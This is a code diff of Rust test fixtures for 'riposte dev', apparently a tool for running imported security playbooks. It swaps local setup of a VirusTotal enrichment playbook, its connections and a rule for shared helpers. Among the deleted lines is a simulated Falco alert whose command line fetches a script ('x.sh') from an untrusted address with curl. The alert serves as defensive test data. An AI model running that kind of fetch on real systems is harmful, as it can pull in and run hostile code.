@@ -1,33 +1,8 @@
-//! What `riposte dev` is given: a real playbook of the corpus as the importer makes it, and what a user writes beside it.
-
-use std::collections::BTreeMap;
-use std::fs;
-use std::path::{Path, PathBuf};
-
-use riposte::api::yaml;
-use serde_json::{Value, json};
+//! A folder of `riposte dev` with everything that an imported playbook needs, and the services beside it.
 
 use super::process::Home;
-use super::service::{API_KEY, Service, WORKSPACE, WORKSPACE_KEY};
-use crate::program;
-
-/// The ARM template of the playbook, in the corpus.
-const TEMPLATE: &str = "playbooks/VirusTotal__Get-VirusTotalIPReport__incident-trigger.json";
-/// The name of the playbook.
-pub(super) const PLAYBOOK: &str = "get-virustotalipreport";
-/// Lets the workspace run every playbook.
-const GRANT: &str = "
-apiVersion: riposte.dev/v1alpha1
-kind: PlaybookGrant
-metadata: {name: all}
-spec:
-  from: [{namespace: default}]
-";
-
-fn corpus() -> PathBuf {
-    let given = std::env::var_os("RIPOSTE_CORPUS").map(PathBuf::from);
-    given.unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus"))
-}
+use crate::enrichment::service::Service;
+use crate::enrichment::{Imported, Services, grant, rule};
 
 /// The outside world of the playbook.
 pub(super) struct World {
@@ -39,134 +14,21 @@ pub(super) struct World {
 impl World {
     /// The playbook with its connections and the rule that runs it, without a grant.
     pub(super) async fn without_grant() -> Self {
-        let world = Self {
-            home: Home::new(),
-            virus_total: Service::virus_total().await,
-            data_collector: Service::data_collector().await,
-        };
-        let names = import(&world.home);
-        world.home.write("connections.yaml", &world.connections(&names));
-        world.home.write("rule.yaml", &rule());
-        world
+        let (home, imported, services) = (Home::new(), Imported::new("default"), Services::start().await);
+        home.write("playbook.yaml", &imported.playbook);
+        home.write("connections.yaml", &services.connections(&imported));
+        home.write("rule.yaml", &rule());
+        Self {
+            home,
+            virus_total: services.virus_total,
+            data_collector: services.data_collector,
+        }
     }
 
     /// The same with the grant.
     pub(super) async fn new() -> Self {
         let world = Self::without_grant().await;
-        world.home.write("grant.yaml", GRANT);
+        world.home.write("grant.yaml", &grant("default"));
         world
     }
-
-    fn connections(&self, names: &BTreeMap<String, String>) -> String {
-        let secret = |name: &str, key: &str| json!({"secretKeyRef": {"name": name, "key": key}});
-        let service = |connector: &str, service: &Service, parameters: Value| {
-            let spec = json!({
-                "connector": connector,
-                "parameters": parameters,
-                "baseUrl": service.url,
-                "allowedNetworks": ["127.0.0.0/8"],
-            });
-            manifest("ApiConnection", &names[connector], spec)
-        };
-        let stored = |name: &str, data: Value| json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "stringData": data});
-        let manifests = [
-            stored("virustotal", json!({ "api_key": API_KEY })),
-            stored("log-analytics", json!({ "key": WORKSPACE_KEY })),
-            manifest(
-                "ApiConnection",
-                &names["azuresentinel"],
-                json!({"connector": "azuresentinel"}),
-            ),
-            service(
-                "virustotal",
-                &self.virus_total,
-                json!([{"name": "api_key", "valueFrom": secret("virustotal", "api_key")}]),
-            ),
-            service(
-                "azureloganalyticsdatacollector",
-                &self.data_collector,
-                json!([
-                    {"name": "username", "value": WORKSPACE},
-                    {"name": "password", "valueFrom": secret("log-analytics", "key")},
-                ]),
-            ),
-        ];
-        manifests
-            .iter()
-            .map(|manifest| format!("---\n{}", yaml::write(manifest)))
-            .collect()
-    }
-}
-
-fn manifest(kind: &str, name: &str, spec: Value) -> Value {
-    json!({"apiVersion": "riposte.dev/v1alpha1", "kind": kind, "metadata": {"name": name}, "spec": spec})
-}
-
-fn rule() -> String {
-    let spec = json!({
-        "displayName": "Ask VirusTotal about new incidents",
-        "order": 1,
-        "triggersOn": "Incidents",
-        "triggersWhen": "Created",
-        "actions": [{"runPlaybook": {"name": PLAYBOOK}}],
-    });
-    yaml::write(&manifest("AutomationRule", "ask-virustotal", spec))
-}
-
-/// Imports the template and puts its Playbook, unchanged, among the manifests; gives the names of the ApiConnections
-/// that it needs, by connector.
-fn import(home: &Home) -> BTreeMap<String, String> {
-    let template = corpus().join(TEMPLATE);
-    assert!(
-        template.is_file(),
-        "there is no {}; set RIPOSTE_CORPUS to the folder of the corpus",
-        template.display()
-    );
-    let template = template.canonicalize().unwrap();
-    let arguments = ["import", template.to_str().unwrap(), "--out", "imported"];
-    let imported = program::finish(home.command(&arguments), "");
-    assert_eq!(imported.code, 0, "{imported:?}");
-    let file = fs::read_dir(home.path("imported")).unwrap().next().unwrap().unwrap();
-    let text = fs::read_to_string(file.path()).unwrap();
-    let is_playbook = |document: &&str| document.lines().any(|line| line == "kind: Playbook");
-    let playbook = text.split("\n---\n").find(is_playbook).expect("a playbook is imported");
-    home.write("playbook.yaml", playbook);
-    let manifest = &yaml::parse(playbook).unwrap()[0].json;
-    assert_eq!(manifest["metadata"]["name"], PLAYBOOK);
-    let connections = manifest["spec"]["connections"].as_array().unwrap();
-    let text = |value: &Value| value.as_str().unwrap().to_owned();
-    let names = connections
-        .iter()
-        .map(|bound| (text(&bound["name"]), text(&bound["connectionRef"]["name"])));
-    names.collect()
-}
-
-/// An event of Falco about a connection to an address, from another one if there is one.
-pub(super) fn event(address: &str, other: Option<&str>) -> Value {
-    let mut fields = json!({
-        "container.id": "8f2f3e1c9a77",
-        "container.image.repository": "registry.example/shop/checkout",
-        "evt.time": 1_772_439_251_204_912_391_i64,
-        "fd.rip": address,
-        "fd.rport": 443,
-        "fd.l4proto": "tcp",
-        "k8s.ns.name": "shop",
-        "k8s.pod.name": "checkout-6d5f9c7b8-x2k4q",
-        "proc.cmdline": format!("curl -s https://{address}/x.sh"),
-        "proc.name": "curl",
-        "user.name": "www-data",
-    });
-    if let Some(other) = other {
-        fields["fd.cip"] = json!(other);
-    }
-    json!({
-        "hostname": "node-2",
-        "time": "2026-03-02T08:14:11.204912391Z",
-        "source": "syscall",
-        "rule": "Unexpected outbound connection destination",
-        "priority": "Critical",
-        "output": format!("Unexpected connection to an address outside of the allow-list (ip={address} user=www-data)"),
-        "tags": ["container", "network", "mitre_command_and_control", "T1071"],
-        "output_fields": fields,
-    })
 }
